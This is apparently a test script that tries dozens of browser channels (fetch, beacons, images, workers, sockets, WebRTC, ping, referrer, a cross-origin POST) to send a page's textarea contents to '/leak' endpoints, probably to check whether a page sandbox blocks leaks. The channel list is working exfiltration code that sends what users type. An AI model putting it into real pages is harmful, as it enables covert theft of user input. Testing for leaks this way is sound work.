// Every way out of a page that we know of. Each is a function of what it carries.
"use strict";
const at = (way, words) => `/leak/${way}?w=${encodeURIComponent(words)}`;
const put = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
const post = (way, body, more = {}) => fetch(`/leak/${way}`, { method: "POST", body, ...more });
const script = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const said = (address, words) => `fetch(${JSON.stringify(location.origin + address)}, {method: "POST", body: ${JSON.stringify(words)}})`;

const ways = {
  fetch: (words) => post("fetch", words),
  json: (words) => post("json", JSON.stringify({ draft: words }), { headers: { "content-type": "application/json" } }),
  form: (words) => post("form", new URLSearchParams({ draft: words })),
  multipart: (words) => { const body = new FormData(); body.append("draft", words); return post("multipart", body); },
  blob: (words) => post("blob", new Blob([words])),
  bytes: (words) => post("bytes", new TextEncoder().encode(words)),
  base64: (words) => fetch(at("base64", btoa(words))),
  header: (words) => fetch("/leak/header", { headers: { "x-draft": words } }),
  other: (words) => fetch(`${OTHER}/leak/other`, { method: "POST", mode: "no-cors", body: words }),
  keepalive: (words) => post("keepalive", words, { keepalive: true }),
  beacon: (words) => navigator.sendBeacon("/leak/beacon", words),
  xhr: (words) => { const x = new XMLHttpRequest(); x.open("POST", "/leak/xhr", false); x.send(words); },
  cookie: async (words) => {
    document.cookie = `draft=${encodeURIComponent(words)}; path=/leak/cookie`;
    await fetch("/leak/cookie");
  },
  image: (words) => { new Image().src = at("image", words); },
  style: (words) => { document.body.style.backgroundImage = `url("${at("style", words)}")`; },
  stylesheet: (words) => put("link", { rel: "stylesheet", href: at("stylesheet", words) }),
  preload: (words) => put("link", { rel: "preload", as: "fetch", href: at("preload", words) }),
  prefetch: (words) => put("link", { rel: "prefetch", href: at("prefetch", words) }),
  icon: (words) => document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: at("icon", words) })),
  manifest: (words) => put("link", { rel: "manifest", href: at("manifest", words) }),
  script: (words) => put("script", { src: at("script", words) }),
  module: (words) => import(at("module", words)),
  frame: (words) => put("iframe", { src: at("frame", words) }),
  object: (words) => put("object", { data: at("object", words) }),
  embed: (words) => put("embed", { src: at("embed", words) }),
  audio: (words) => { new Audio().src = at("audio", words); put("audio", { src: at("audio", words), preload: "auto" }); },
  track: (words) => {
    const video = document.createElement("video");
    video.poster = at("track", words);
    document.body.append(video);
  },
  font: (words) => new FontFace("draft", `url("${at("font", words)}")`).load(),
  ping: (words) => {
    const link = Object.assign(document.createElement("a"), { href: "#", ping: at("ping", words) });
    document.body.append(link);
    link.click();
  },
  eventsource: (words) => new EventSource(at("eventsource", words)),
  worklet: (words) => new AudioContext().audioWorklet.addModule(at("worklet", words)),
  "frame-form": (words) => {
    put("iframe", { name: "sink" });
    const form = Object.assign(document.createElement("form"), { action: "/leak/frame-form", method: "post", target: "sink" });
    form.append(Object.assign(document.createElement("input"), { name: "draft", value: words }));
    document.body.append(form);
    form.submit();
    form.remove();
  },
  "frame-fetch": (words) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow.fetch(location.origin + "/leak/frame-fetch", { method: "POST", body: words });
  },
  worker: (words) => { new Worker(script(said("/leak/worker", words))); },
  "worker-script": (words) => { new Worker(at("worker-script", words)); },
  shared: (words) => { new SharedWorker(script(said("/leak/shared", words))); },
  "shared-script": (words) => { new SharedWorker(at("shared-script", words)); },
  "shared-in-frame": (words) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    new frame.contentWindow.SharedWorker(script(said("/leak/shared-in-frame", words)));
  },
  service: () => navigator.serviceWorker.register("/service.js"),
  socket: (words) => { new WebSocket(`ws://${location.host}${at("socket", words)}`); },
  "socket-in-worker": (words) => {
    new Worker(script(`new WebSocket(${JSON.stringify(`ws://${location.host}${at("socket-in-worker", words)}`)})`));
  },
  peer: (words) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${location.host}?transport=tcp`, username: words, credential: words }] });
    peer.createDataChannel(words);
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  transport: (words) => new WebTransport(`https://${location.host}${at("transport", words)}`).ready,
  report: (words) => { new Image().src = `/forbidden/${encodeURIComponent(words)}`; },
  referrer: async (words) => {
    history.replaceState(null, "", `?d=${encodeURIComponent(words)}`);
    await fetch("/leak/referrer").catch(() => {});
    history.replaceState(null, "", location.pathname);
  },
};

async function tryAll(words) {
  for (const way of Object.values(ways)) {
    try { await Promise.race([way(words), new Promise((done) => setTimeout(done, 300))]); } catch { /* it is closed */ }
  }
  await new Promise((done) => setTimeout(done, 500));
}

const before = tryAll(HARMLESS);
let begun = false;
document.querySelector("textarea").addEventListener("input", async (event) => {
  if (begun) return;
  begun = true;
  await before;
  await tryAll(event.target.value);
  fetch("/tried");
});
